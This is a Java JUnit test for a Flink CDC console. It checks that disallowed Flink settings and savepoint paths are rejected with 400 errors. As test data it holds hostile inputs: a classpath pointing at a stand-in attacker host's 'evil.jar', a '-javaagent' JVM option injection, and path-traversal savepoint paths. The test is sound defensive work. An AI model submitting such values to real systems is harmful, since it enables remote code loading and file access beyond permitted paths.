package io.cdcconsole.run;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.cdcconsole.test.ConsoleTest;
import io.cdcconsole.test.Http;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import java.util.List;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * What an operator may pass on to Flink (security review M11): Flink settings from the allow-list
 * only, never code paths or internals; savepoint paths under the configured prefixes and without
 * {@code ..}; on the console's own routes and through the DolphinScheduler ones. Each refusal is a
 * 400 naming the field, before Flink is asked.
 */
@ConsoleTest.Env({"CDC_CONSOLE_RUNS_SAVEPOINT_PREFIXES=file:///savepoints/, s3://bucket/sp"})
class RunPolicyTest extends ConsoleTest {
  private static String operator;

  @BeforeAll
  static void pipeline() {
    long cluster =
        http.post(
                "/api/v1/clusters",
                admin,
                new JsonObject()
                    .put("name", "nowhere")
                    .put("restUrl", "http://127.0.0.1:1")
                    .put("cdc", new JsonObject().put("mode", "provided").put("version", "3.2.0")))
            .json()
            .getLong("id");
    operator = console.userToken("runner", "operator");
    Http.Response created =
        http.post(
            "/api/v1/pipelines",
            operator,
            new JsonObject()
                .put("name", "p-run")
                .put("clusterId", cluster)
                .put(
                    "yaml",
                    "source:\n  type: values\nsink:\n  type: values\npipeline:\n  parallelism: 1\n"));
    assertEquals(201, created.status(), created.body());
  }

  @Test
  void codeLoadingAndUnlistedFlinkSettingsAreRefusedNamingEachKey() {
    long runsBefore = http.get("/api/v1/pipelines/p-run/runs", operator).json().getLong("total");
    Http.Response refused =
        start(
            new JsonObject()
                .put(
                    "flinkConfiguration",
                    new JsonObject()
                        .put("pipeline.classpaths", "http://attacker.example/evil.jar")
                        .put("pipeline.jars", "file:///tmp/x.jar")
                        .put("env.java.opts", "-javaagent:/tmp/x.jar")
                        .put("$internal.pipeline.job-id", "x")
                        .put("high-availability.storageDir", "file:///tmp")));
    assertEquals(400, refused.status(), refused.body());
    List<String> paths =
        refused.json().getJsonArray("errors").stream()
            .map(e -> ((JsonObject) e).getString("path"))
            .sorted()
            .toList();
    assertEquals(
        List.of(
            "flinkConfiguration.$internal.pipeline.job-id",
            "flinkConfiguration.env.java.opts",
            "flinkConfiguration.high-availability.storageDir",
            "flinkConfiguration.pipeline.classpaths",
            "flinkConfiguration.pipeline.jars"),
        paths);
    assertEquals(
        runsBefore,
        http.get("/api/v1/pipelines/p-run/runs", operator).json().getLong("total"),
        "nothing started");
  }

  @Test
  void savepointPathsMustBeUnderAPrefixAndWithoutDotDot() {
    for (String path :
        List.of(
            "file:///etc/../root/x",
            "file:///savepoints/../etc",
            "file:///elsewhere/sp-1",
            "s3://bucket/spx")) {
      Http.Response refused = start(new JsonObject().put("fromSavepoint", path));
      assertEquals(400, refused.status(), path + ": " + refused.body());
      assertEquals("fromSavepoint", firstErrorPath(refused), path);
    }
    for (String route :
        List.of("/api/v1/pipelines/p-run/stop", "/api/v1/pipelines/p-run/savepoints")) {
      Http.Response refused =
          http.post(route, operator, new JsonObject().put("targetDirectory", "file:///tmp/sp"));
      assertEquals(400, refused.status(), route + ": " + refused.body());
      assertEquals("targetDirectory", firstErrorPath(refused), route);
    }
    Http.Response viaDs =
        http.post(
            "/api/v1/ds/stop?pipeline=p-run&targetDirectory=file:///savepoints/../x",
            operator,
            null);
    assertEquals(400, viaDs.status(), viaDs.body());
    assertEquals("FAILURE", viaDs.json().getString("result"));
    assertTrue(viaDs.json().getString("detail").startsWith("targetDirectory:"), viaDs.body());
  }

  @Test
  void allowedSettingsAndPathsStartTheRun() {
    Http.Response started =
        start(
            new JsonObject()
                .put("fromSavepoint", "file:///savepoints/sp-1")
                .put(
                    "flinkConfiguration",
                    new JsonObject()
                        .put("execution.checkpointing.interval", "10s")
                        .put("parallelism.default", "2")
                        .put("restart-strategy.type", "none")));
    assertEquals(202, started.status(), started.body());
    JsonObject run = http.get(started.header("Location"), operator).json();
    assertEquals("file:///savepoints/sp-1", run.getString("fromSavepoint"));
    assertEquals(
        "10s",
        run.getJsonObject("flinkConfiguration").getString("execution.checkpointing.interval"));
  }

  private static Http.Response start(JsonObject body) {
    return http.post("/api/v1/pipelines/p-run/runs", operator, body);
  }

  private static String firstErrorPath(Http.Response r) {
    JsonArray errors = r.json().getJsonArray("errors");
    return errors.getJsonObject(0).getString("path");
  }
}
